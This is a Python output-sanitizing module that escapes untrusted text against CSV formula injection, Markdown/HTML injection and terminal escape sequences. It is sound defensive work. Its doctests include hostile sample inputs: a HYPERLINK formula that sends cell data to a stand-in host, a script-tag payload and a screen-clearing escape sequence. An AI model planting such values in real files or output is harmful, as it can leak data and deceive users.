"""Output safety: text that came in is written out as text, never as a formula or as markup.

A county's file can hold any text (an entity id, an explanation, a plugin's section cell, a file
name), and soeplan quotes it back in every file it writes. Each writer passes such text through
one of these helpers, so that a spreadsheet never evaluates it and a Markdown viewer never
renders it:

- **CSV** (:func:`csv_field`, :func:`csv_row`, :func:`csv_frame`): OWASP's rule for CSV
  injection, a field that starts with ``= + - @``, a tab or a carriage return gets a leading
  ``'``, unless the field is a number.
- **Excel** (:func:`xlsx_put`, :func:`xlsx_cell`): a text is written as a string cell (openpyxl
  would make ``"=..."`` a formula and ``"#N/A"`` an error), with Excel's quote prefix when it
  starts like a formula, so that it stays text when someone edits the cell; characters XML cannot
  carry are shown as ``\\xNN``.
- **Markdown** (:func:`md_text`, :func:`md_code_block`): HTML is escaped as entities, Markdown's
  inline control characters with a backslash, a leading block marker too, and a code block's
  fence is longer than any run of backticks inside it.
- **HTML**: jinja2's autoescape (:mod:`soeplan.report.html`), not here.
- **The terminal** (:func:`terminal_text`): control characters (escape sequences) are shown as
  ``\\xNN``, never sent to the terminal.

And one rule for figures (:func:`figure_text`): a sum is printed at the precision the rollup
computed it to, a ratio at full precision.

>>> print(csv_field('=HYPERLINK("http://x.invalid/?"&A1,"click")'))
'=HYPERLINK("http://x.invalid/?"&A1,"click")
>>> csv_row(["-3.5", -3.5, "-x", "@sum", "plain", None])
['-3.5', '-3.5', "'-x", "'@sum", 'plain', '']
>>> print(md_text("<script>alert(1)</script> | *bold*"))
&lt;script&gt;alert(1)&lt;/script&gt; \\| \\*bold\\*
>>> figure_text(2090.4900000000002, "amount"), figure_text(0.6243165392874627, "ratio")
('2090.49', '0.6243165392874627')
"""

from __future__ import annotations

import re
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    import polars as pl

__all__ = [
    "FORMULA_TRIGGERS",
    "SUM_PLACES",
    "csv_field",
    "csv_frame",
    "csv_row",
    "figure_text",
    "is_number_text",
    "md_code_block",
    "md_text",
    "terminal_text",
    "xlsx_cell",
    "xlsx_put",
    "xlsx_text",
]

#: The first characters that make a spreadsheet read a field as a formula (OWASP: CSV injection).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")

#: A number as soeplan prints one: a sign, digits (thousands grouped by commas, or not), a
#: decimal part, an exponent, a percent sign, and the letters of a unit right after it (``pp``,
#: ``亿元``). ASCII digits only. As a formula it could only be a syntax error: with no ``(``, ``!``,
#: ``|`` or space it can call no function, link no address and reach no other program.
_NUMBER = (
    r"[+-]?(?:[0-9]{1,3}(?:,[0-9]{3})+|[0-9]+)?(?:\.[0-9]+)?(?:[eE][+-]?[0-9]+)?%?"
    r"[A-Za-z一-鿿]{0,8}"
)
_NUMBER_RE = re.compile(_NUMBER)
_DIGIT_FIRST = r"[+-]?\.?[0-9]"  #: a number starts with a digit, after its sign and point


def is_number_text(text: str) -> bool:
    """Whether ``text`` is a number as printed (``-3.5``, ``+1,234.00``, ``-2.1e3``, ``-12%``,
    ``-7.28pp``): a digit before any letter, no operator, bracket or space.

    >>> [is_number_text(t) for t in ("-3.5", "-1,234.00", "-12%", "-7.28pp", "-3亿元")]
    [True, True, True, True, True]
    >>> [is_number_text(t) for t in ("-", "-1+1", "-inf", "-١", "-1 A1", "-SUM(A1)")]
    [False, False, False, False, False, False]
    """
    return _NUMBER_RE.fullmatch(text) is not None and re.match(_DIGIT_FIRST, text) is not None


def csv_field(value: object) -> str:
    """One CSV field: ``None`` as empty, a number as it is, a text starting like a formula with
    a leading ``'`` (unless it is a number).

    A line break inside a text is written as ``\\n``: Python's CSV writer quotes a field with a
    carriage return only when the line ends in one, and an unquoted carriage return would start
    a new row to a spreadsheet (where a formula could hide).
    """
    if value is None:
        return ""
    text = str(value)
    if isinstance(value, int | float) and not isinstance(value, bool):
        return text
    if text.startswith(FORMULA_TRIGGERS) and not is_number_text(text):
        text = "'" + text
    return text.replace("\r\n", "\n").replace("\r", "\n")


def csv_row(row: Any) -> list[str]:
    """Every field of a row through :func:`csv_field`."""
    return [csv_field(v) for v in row]


def csv_frame(frame: pl.DataFrame) -> pl.DataFrame:
    """``frame`` with each text column made safe as :func:`csv_field` does, for ``write_csv``.

    Numbers, dates and booleans are left alone (polars writes them as numbers).

    >>> import polars as pl
    >>> csv_frame(pl.DataFrame({"entity": ["=1+1", "-2", "ok"], "v": [-1.0, 2.0, 3.0]})).rows()
    [("'=1+1", -1.0), ('-2', 2.0), ('ok', 3.0)]
    """
    import polars as pl

    triggers = r"^[=+\-@\t\r]"  # FORMULA_TRIGGERS
    number = f"^(?:{_NUMBER})$"
    fixes = []
    for name, dtype in frame.schema.items():
        if dtype in (pl.String, pl.Categorical, pl.Enum):
            col = pl.col(name).cast(pl.String)
            hostile = col.str.contains(triggers) & ~(
                col.str.contains(number) & col.str.contains("^" + _DIGIT_FIRST)
            )
            fixed = pl.when(hostile).then(pl.lit("'") + col).otherwise(col)
            fixes.append(fixed.str.replace_all("\r\n?", "\n").alias(name))
    return frame.with_columns(fixes) if fixes else frame


# -------------------------------------------------------------------------------- Excel

#: Characters an XML 1.0 document cannot carry (openpyxl refuses them with IllegalCharacterError),
#: and lone surrogates, which UTF-8 cannot encode.
_XML_ILLEGAL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff\ud800-\udfff]")


def xlsx_text(text: str) -> str:
    """``text`` with each character a workbook cannot hold shown as ``\\xNN`` (or ``\\uNNNN``).

    >>> print(xlsx_text("a\\x00b\\x1bc"))
    a\\x00b\\x1bc
    """

    return _XML_ILLEGAL.sub(_shown, text)


def _shown(m: re.Match[str]) -> str:
    n = ord(m.group())
    return f"\\x{n:02x}" if n < 0x100 else f"\\u{n:04x}"


def xlsx_put(cell: Any, value: object) -> Any:
    """Put ``value`` in an openpyxl ``cell``: a text as a string cell, anything else as it is.

    openpyxl makes a text that starts with ``=`` a formula and ``#N/A`` an error; this sets the
    cell's data type to string after the value, so the file holds the text itself (an inline
    string), and sets Excel's quote prefix on a text that starts like a formula, so that the cell
    stays text when someone edits it. Returns the cell.
    """
    if isinstance(value, str):
        text = xlsx_text(value)
        cell.value = text
        cell.data_type = "s"
        if text.startswith(FORMULA_TRIGGERS):
            cell.quotePrefix = True
    else:
        cell.value = value
    return cell


def xlsx_cell(ws: Any, row: int, column: int, value: object = None) -> Any:
    """``ws.cell(row, column)`` with ``value`` put in it by :func:`xlsx_put`; returns the cell.

    As with ``ws.cell(..., value=None)``, a ``None`` value leaves the cell as it is.
    """
    cell = ws.cell(row=row, column=column)
    return cell if value is None else xlsx_put(cell, value)


# ----------------------------------------------------------------------------- terminal

#: Control characters a terminal acts on (escape sequences, carriage return, backspace, bell)
#: and the bidirectional overrides that reorder what a reader sees; line feed and tab stay.
_TERMINAL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def terminal_text(text: str) -> str:
    """``text`` for a terminal: each control character shown as ``\\xNN`` (or ``\\uNNNN``).

    >>> print(terminal_text("ok\\x1b[2J\\rgone"))
    ok\\x1b[2J\\x0dgone
    """
    return _TERMINAL.sub(_shown, text)


# ----------------------------------------------------------------------------- Markdown

_HTML = {"&": "&amp;", "<": "&lt;", ">": "&gt;"}
#: Inline Markdown (CommonMark and GitHub's): emphasis, code, links and images, tables,
#: strikethrough, math; and the backslash itself.
_MD_INLINE = re.compile(r"[\\`*_\[\]|~$]")
#: A block marker at the start of a line: a heading, a list item, a setext underline.
_MD_BLOCK = re.compile(r"^(#{1,6}(?=\s|$)|[-+](?=\s|$)|=+\s*$|-+\s*$)")
_MD_ORDERED = re.compile(r"^([0-9]{1,9})([.)])(?=\s|$)")
_AUTOLINK = re.compile(r"(?i)(://)|\b(www)(\.)")


def md_text(text: object, *, inline: bool = True) -> str:
    """``text`` for a Markdown file, shown as it is and never rendered as markup.

    ``&``, ``<`` and ``>`` become entities; Markdown's inline control characters get a
    backslash; so does a block marker at the start of a line (``#``, ``-``, ``+``, ``1.``); each
    line is trimmed (four spaces would make a code block, two at the end a line break); a bare
    address does not become a link (``http\\://``). With ``inline`` (a table cell, a list item,
    between ``**``) the lines are joined by spaces.

    >>> print(md_text("# 1. [x](http://a.invalid) &amp;"))
    \\# 1. \\[x\\](http\\://a.invalid) &amp;amp;
    """
    s = "" if text is None else str(text)
    s = "".join(_HTML.get(ch, ch) for ch in s)
    s = _MD_INLINE.sub(lambda m: "\\" + m.group(), s)
    s = _AUTOLINK.sub(lambda m: "\\://" if m.group(1) else f"{m.group(2)}\\.", s)
    lines = s.replace("\r\n", "\n").replace("\r", "\n").split("\n")
    lines = [_MD_ORDERED.sub(r"\1\\\2", _MD_BLOCK.sub(r"\\\1", ln.strip())) for ln in lines]
    return " ".join(lines).strip() if inline else "\n".join(lines)


def md_code_block(text: str, info: str = "") -> str:
    """``text`` as a fenced code block whose fence no line inside can close.

    >>> print(md_code_block("a ``` b", "sh"))
    ````sh
    a ``` b
    ````
    """
    longest = max((len(m.group()) for m in re.finditer("`+", text)), default=0)
    fence = "`" * max(3, longest + 1)
    return f"{fence}{info}\n{text}\n{fence}"


# ------------------------------------------------------------------------------ figures

#: The rollup sums in whole units of 1e-8 of an indicator's unit (``_SCALE`` in
#: :mod:`soeplan.consolidation.inputs`): a sum is exact to this many decimals.
SUM_PLACES = 8


def figure_text(value: float, kind: str) -> str:
    """A rolled-up figure for a machine-readable output (CSV, JSON), exactly as computed.

    A sum (an amount or a count) is exact to :data:`SUM_PLACES` decimals, so it is printed at
    that precision in its shortest form (``2090.49``, not ``2090.4900000000002``); a ratio is
    recomputed from the sums and keeps every digit (``kind`` ``"ratio"``).

    >>> figure_text(12.0, "count"), figure_text(-0.0, "amount"), figure_text(1 / 3, "ratio")
    ('12.0', '0.0', '0.3333333333333333')
    """
    return repr(figure_value(value, kind))


def figure_value(value: float, kind: str) -> float:
    """The float :func:`figure_text` prints (for a JSON writer)."""
    if kind == "ratio":
        return value
    return round(value, SUM_PLACES) + 0.0  # + 0.0: no "-0.0"
